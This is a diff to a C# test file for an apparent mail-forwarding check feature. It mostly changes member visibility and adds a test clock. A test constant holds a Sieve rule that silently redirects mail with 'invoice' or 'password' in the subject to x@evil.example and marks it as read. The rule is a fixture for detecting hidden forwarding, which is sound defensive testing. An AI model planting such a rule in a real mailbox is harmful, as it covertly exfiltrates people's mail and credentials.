@@ -15,8 +15,8 @@ namespace Serjeant.Desk.Tests.Checks.Forwarding;
 public sealed class ForwardingTests
 {
     private const string Page = "/checks/forwarding";
-    private const string Jane = "jane@office.example";
-    private const string Hidden = "require [\"copy\", \"imap4flags\"];\r\n# rule:[.]\r\nif header :contains \"subject\" [\"invoice\", \"“password”\"] {\r\n  redirect :copy \"x@evil.example\";\r\n  setflag \"\\\\Seen\";\r\n}\r\n";
+    internal const string Jane = "jane@office.example";
+    internal const string Hidden = "require [\"copy\", \"imap4flags\"];\r\n# rule:[.]\r\nif header :contains \"subject\" [\"invoice\", \"“password”\"] {\r\n  redirect :copy \"x@evil.example\";\r\n  setflag \"\\\\Seen\";\r\n}\r\n";
     private static readonly CancellationToken Cancel = TestContext.Current.CancellationToken;
 
     [Fact]
@@ -81,15 +81,16 @@ public sealed class ForwardingTests
         (await desk.WithDbAsync(db => db.WatchedMailboxes.CountAsync(Cancel))).ShouldBe(1);
     }
 
-    private static Task<TestDesk> StartAsync(MailServers servers) => TestDesk.StartAsync(builder =>
+    internal static Task<TestDesk> StartAsync(MailServers servers, TestClock? clock = null) => TestDesk.StartAsync(builder =>
     {
+        clock?.Use(builder);
         builder.Services.AddSingleton(new CaptureAllowance(servers.Allowed));
         builder.Services.AddSingleton(servers.Trust);
     });
 
     private static ManageSieve Client(MailServers servers) => new(new AddressGuard(new SystemAddressResolver(), servers.Allowed), servers.Trust);
 
-    private static async Task<HttpResponseMessage> WatchAsync(TestBrowser browser, MailServers servers) => await browser.SubmitAsync(await browser.PageAsync(Page), "#watch", new Dictionary<string, string>
+    internal static async Task<HttpResponseMessage> WatchAsync(TestBrowser browser, MailServers servers) => await browser.SubmitAsync(await browser.PageAsync(Page), "#watch", new Dictionary<string, string>
     {
         ["Form.Name"] = "Jane’s mail <b>",
         ["Form.Kind"] = "Sieve",
